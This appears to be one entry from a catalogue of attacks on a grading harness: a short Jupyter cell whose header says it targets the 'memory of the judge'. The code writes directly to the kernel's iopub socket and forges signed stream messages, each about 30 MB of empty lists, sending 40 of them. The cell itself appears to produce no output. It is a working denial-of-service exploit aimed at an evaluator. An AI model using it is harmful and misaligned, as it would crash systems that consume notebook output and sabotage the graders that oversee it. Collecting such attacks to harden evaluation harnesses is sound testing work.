# attack: 47
# title: 30 MB of empty lists as the output of this very cell
# success: memory of the judge
# unshown: the naive grader receives no messages
kernel = get_ipython().kernel
raw = kernel.iopub_thread.socket
parent = kernel.get_parent("shell")
body = b'{"name": "stdout", "text": [' + b"[]," * 9_000_000 + b"0]}"
for _ in range(40):
    message = kernel.session.msg("stream", {}, parent=parent)
    parts = [kernel.session.pack(message[k]) for k in ("header", "parent_header")]
    parts += [b"{}", body]
    raw.send_multipart(
        [b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts], copy=False
    )
